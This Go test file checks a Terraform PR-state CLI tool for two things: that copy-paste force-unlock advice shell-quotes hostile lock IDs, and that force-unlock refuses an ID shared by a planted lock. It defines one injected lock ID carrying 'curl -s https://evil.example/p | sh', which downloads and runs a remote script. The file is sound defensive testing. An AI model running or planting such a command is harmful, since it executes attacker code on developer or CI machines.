package cli

import (
	"context"
	"strings"
	"testing"

	"github.com/prstate/prstate/internal/cleanuptest"
	"github.com/prstate/prstate/pipeline/applylock"
	"github.com/prstate/prstate/pipeline/clock/clocktest"
	"github.com/prstate/prstate/pipeline/statekey"
	"github.com/prstate/prstate/pipeline/storage"
	"github.com/prstate/prstate/pipeline/storage/memstore"
)

// evilLockID is a lock ID a PR job can write into its own PR state's lock.
const evilLockID = "0d5c; curl -s https://evil.example/p | sh; #"

// TestAdviceLinesAreShellQuoted: the copy-paste `terraform force-unlock`
// advice of a PR state locked by an ID full of shell metacharacters quotes
// the ID, in the log line, the ::error:: annotation and the step summary:
// pasted, it unlocks that ID and runs nothing else.
func TestAdviceLinesAreShellQuoted(t *testing.T) {
	t.Parallel()
	store, s := memStore()
	a := newTestApp(t, store)
	a.clock = clocktest.New()
	a.actions("pull_request", "pull_request_closed_merged.json")
	cleanuptest.Production(t, s)
	st := cleanuptest.Stack(t, s, false, true, false)
	key := cleanuptest.SeededPR(t, s, st, 42, 0)
	info := applylock.LockInfo{ID: evilLockID, Operation: "OperationTypePlan", Who: "mallory@pr"}
	if err := s.Table.PutItem(context.Background(), storage.Item{storage.KeyAttr: statekey.LockItemID("acme-state", key), "Info": string(info.Marshal())}, storage.Condition{}); err != nil {
		t.Fatal(err)
	}
	code := a.run("cleanup", "--bucket", "acme-state", "--key", cleanuptest.Prod, "--dynamodb-table", "tf-locks", "--lock-timeout", "1m")
	quoted := "terraform force-unlock '" + evilLockID + "'"
	errLine := ""
	for _, l := range strings.Split(a.stderr.String(), "\n") {
		if strings.HasPrefix(l, "::error::") {
			errLine = l
		}
	}
	if code != 3 || !strings.Contains(errLine, quoted) {
		t.Fatalf("exit %d; the ::error:: line lacks %q:\n%s", code, quoted, a.stderr.String())
	}
	summary := a.file("github_step_summary")
	all := a.stderr.String() + a.stdout.String() + summary
	if strings.Contains(strings.ReplaceAll(all, "'"+evilLockID+"'", ""), "force-unlock 0d5c") {
		t.Fatalf("an unquoted ID in a copy-paste command:\n%s", all)
	}
	if !strings.Contains(summary, "force-unlock '0d5c; curl") {
		t.Fatalf("summary:\n%s", summary)
	}
	// The apply lock's advice quotes the same way.
	e := &applylock.LockTimeoutError{Where: "s3://acme-state/app/terraform.tfstate.prstate-apply.lock", Holder: "someone", LockID: evilLockID}
	if !strings.Contains(e.Error(), "`prstate force-unlock --lock-id '"+evilLockID+"'`") {
		t.Fatalf("apply lock advice: %s", e.Error())
	}
}

// TestForceUnlockRefusesAnIDNamingTwoLocks: a PR's lock file planted with
// production's lock ID makes force-unlock of that ID refuse (exit 2),
// listing both locks, and remove neither.
func TestForceUnlockRefusesAnIDNamingTwoLocks(t *testing.T) {
	t.Parallel()
	b, tb := memstore.NewBucket("acme-state"), memstore.NewTable("locks")
	ctx := t.Context()
	b.PutObject(ctx, "app/terraform.tfstate", []byte(`{"version":4,"serial":3,"lineage":"l"}`), storage.PutOptions{})
	prod := applylock.LockInfo{ID: "7f1e2d3c-0000-4000-8000-00000000beef", Operation: "OperationTypeApply", Who: "ci@runner", Path: "acme-state/app/terraform.tfstate"}
	tb.PutItem(ctx, storage.Item{storage.KeyAttr: "acme-state/app/terraform.tfstate", "Info": string(prod.Marshal())}, storage.Condition{})
	planted := prod
	planted.Who, planted.Path = "mallory@pr", "acme-state/app/pr-7/terraform.tfstate"
	b.PutObject(ctx, "app/pr-7/terraform.tfstate.tflock", planted.Marshal(), storage.PutOptions{})
	a := newTestApp(t, Store{Bucket: b, Table: tb})
	code := a.run(args("force-unlock", "--dynamodb-table", "locks", "--lock-id", prod.ID, "--force")...)
	e := a.stderr.String()
	if code != 2 || !strings.Contains(e, "names 2 locks") || !strings.Contains(e, "s3://acme-state/app/pr-7/terraform.tfstate.tflock") || !strings.Contains(e, "acme-state/app/terraform.tfstate") {
		t.Fatalf("exit %d, want 2 listing both: %s", code, e)
	}
	if _, err := tb.GetItem(ctx, "acme-state/app/terraform.tfstate"); err != nil {
		t.Fatalf("production's lock removed: %v", err)
	}
	if _, err := b.GetObject(ctx, "app/pr-7/terraform.tfstate.tflock"); err != nil {
		t.Fatalf("the planted lock removed: %v", err)
	}
	if objs, _ := b.ListObjects(ctx, "app/terraform.tfstate.prstate-backup/"); len(objs) != 0 {
		t.Fatalf("a backup was written: %+v", objs)
	}
	// Terraform's own pair (lock file and item of one state, one ID) is
	// not ambiguous.
	if err := b.DeleteObject(ctx, "app/pr-7/terraform.tfstate.tflock", ""); err != nil {
		t.Fatal(err)
	}
	b.PutObject(ctx, "app/terraform.tfstate.tflock", prod.Marshal(), storage.PutOptions{})
	if code := a.run(args("force-unlock", "--dynamodb-table", "locks", "--lock-id", prod.ID)...); code != 0 {
		t.Fatalf("Terraform's pair: exit %d: %s", code, a.stderr.String())
	}
}
